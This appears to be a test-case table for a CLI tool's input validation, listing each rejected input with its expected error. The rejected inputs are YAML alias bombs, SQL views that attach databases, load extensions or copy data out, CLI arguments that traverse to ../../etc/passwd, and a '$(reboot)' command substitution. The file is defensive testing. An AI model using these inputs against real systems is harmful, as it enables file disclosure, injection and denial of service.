  config('config/source-is-null.yaml', 'a source with no settings', 2, 'breakfix.yaml:15', 'sources.responsive: expected a mapping with kind: and path: or command:, got null'),
  config('config/duplicate-key.yaml', 'a source defined twice', 2, 'breakfix.yaml:15:3', 'invalid YAML: Map keys must be unique'),
  config('config/alias-bomb.yaml', 'a YAML alias bomb ("billion laughs")', 2, 'breakfix.yaml', 'invalid YAML: Excessive alias count indicates a resource exhaustion attack'),
  config('config/hdfs-replication-zero.yaml', 'hdfs limits out of range: replication 0, a share of 120%', 2, 'breakfix.yaml:30', 'hdfs.replication: expected number to be >=1, got number 0'),
  config('config/percent-out-of-range.yaml', 'an archetype percent of 600', 2, 'breakfix.yaml:31', 'policy.archetypes.default.percent: expected number to be <=100, got number 600'),
  config('config/invalid-time-zone.yaml', 'a time zone that does not exist', 2, 'breakfix.yaml:5', 'timezone: expected an IANA time zone like "UTC" or "America/Los_Angeles", got "Mars/Olympus_Mons"'),
  config('config/binary-garbage.yaml', 'a gzip file as the config', 2, 'breakfix.yaml:1', 'expected object, got'),

  // view files dropped into queries/
  view('views/attach-database.sql', 'attach-database.sql', 'a view that attaches another database', 'near "ATTACH": syntax error', true),
  view('views/load-extension.sql', 'load-extension.sql', 'a view that loads a shared library', 'unsafe use of load_extension()', true),
  view('views/drop-after-select.sql', 'drop-after-select.sql', 'a SELECT followed by DROP TABLE', 'a view must be exactly one SELECT statement (found more than one statement)'),
  view('views/insert.sql', 'insert.sql', 'a view that is an INSERT', 'near "INSERT": syntax error'),
  view('views/pragma-writable-schema.sql', 'pragma-writable-schema.sql', 'a view that is a PRAGMA', 'near "PRAGMA": syntax error'),
  view('views/create-trigger.sql', 'create-trigger.sql', 'a view that creates a trigger', 'near "CREATE": syntax error'),
  view('views/vacuum-into.sql', 'vacuum-into.sql', 'a view that copies the database out', 'near "VACUUM": syntax error'),
  view('views/unknown-table.sql', 'unknown-table.sql', 'a view reading a misspelled table', 'no such table: inventroy'),
  view('views/reserved-name.sql', 'imports.sql', "a view named after breakfix's own imports table", "imports is one of breakfix's own tables; rename the view"),
  view('views/day-file-name.sql', 'plan.sql', 'a view named like the plan directory of a day', `"plan" is reserved: breakfix's own runs/DAY/plan/ has that name`, true),
  {
    id: 'views-cycle',
    attacks: 'view',
    kind: 'view',
    what: 'two views reading each other',
    files: [
      { path: 'queries/cycle-a.sql', from: 'views/cycle-a.sql' },
      { path: 'queries/cycle-b.sql', from: 'views/cycle-b.sql' },
    ],
    expect: { code: 1, at: 'queries/cycle-a.sql', problem: 'views depend on each other in a cycle: cycle-a --> cycle-b --> cycle-a' },
  },
  {
    id: 'views-bad-file-name',
    attacks: 'view',
    kind: 'view',
    what: 'a view file whose name is not a view name',
    files: [{ path: 'queries/Evil..View.sql', from: 'views/unknown-table.sql' }],
    expect: { code: 1, at: 'queries/Evil..View.sql', problem: 'a view file name must be lower-case letters, digits and single dashes' },
  },

  // path traversal and injection through the command line
  cli('cli-query-path-traversal', ['query', '../../etc/passwd'], 'a view name that is a path', 'unknown view "../../etc/passwd"'),
  cli('cli-export-path-traversal', ['export', '../escape'], 'an export to a path outside the day', 'unknown view "../escape"'),
  cli('cli-diff-path-traversal', ['diff', '../../../etc/passwd'], 'a diff of a path', 'unknown view "../../../etc/passwd"'),
  cli('cli-day-path-traversal', ['--day', '../../etc', 'pass'], 'a --day that is a path', '--day: expected YYYY-MM-DD, "today" or "yesterday", got "../../etc"'),
  cli('cli-import-path-traversal', ['import', '../../etc/passwd'], 'an import of a source named like a path', 'unknown source ../../etc/passwd'),
  cli('cli-explain-command-substitution', ['explain', '$(reboot)'], 'a host argument that is a command substitution', `explain: invalid hostname "$(reboot)": '$' ${HOST_CHARS}`),
  cli('cli-clear-path-traversal', ['clear', '../../x', '--reason', 'corpus'], 'clearing a host named like a path', `invalid hostname "../../x": '/' ${HOST_CHARS}`),
  cli('cli-plan-path-traversal', ['plan', '../x'], 'planning an action named like a path', 'unknown action ../x; configured: rekick'),
];
